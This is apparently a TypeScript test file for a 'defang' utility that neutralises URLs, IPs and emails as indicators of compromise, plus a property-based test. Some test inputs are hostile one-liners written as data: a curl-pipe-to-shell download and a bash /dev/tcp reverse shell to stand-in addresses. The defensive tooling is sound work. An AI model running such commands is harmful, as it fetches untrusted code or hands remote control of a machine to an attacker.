import { assert, domain, ipV4, property, string } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defang } from './defang.ts';

describe('defang', () => {
  it.each([
    ['curl http://203.0.113.18/x.sh | sh', 'curl hxxp://203[.]0[.]113[.]18/x.sh | sh'],
    ['HTTPS://Evil.example.org:8443/a', 'HxxPS://Evil[.]example[.]org:8443/a'],
    ['http://evil.sh/run.sh', 'hxxp://evil[.]sh/run.sh'],
    ['ftp://files.example.net', 'fxp://files[.]example[.]net'],
    ['stratum+tcp://pool.example.com:4444', 'stratum+tcp://pool[.]example[.]com:4444'],
    ['bash -i >& /dev/tcp/198.51.100.7/443', 'bash -i >& /dev/tcp/198[.]51[.]100[.]7/443'],
    ['me@example.org', 'me[@]example[.]org'],
    ['/etc/cron.d/backup.sh config.json libc.so.6', '/etc/cron.d/backup.sh config.json libc.so.6'],
    ['SHA256:abc', 'SHA256:abc'],
  ])('%s', (text, safe) => {
    expect(defang(text)).toBe(safe);
  });

  it('leaves no address that a program would make a link of, and changes nothing twice', () => {
    const host = domain();
    assert(
      property(host, ipV4(), string(), (name, address, rest) => {
        const safe = defang(`${rest} http://${name}/a ${address}:80 x@${name}`);
        expect(safe).not.toMatch(/https?:\/\//i);
        expect(safe).not.toContain(address);
        expect(defang(safe)).toBe(safe);
      }),
    );
  });
});
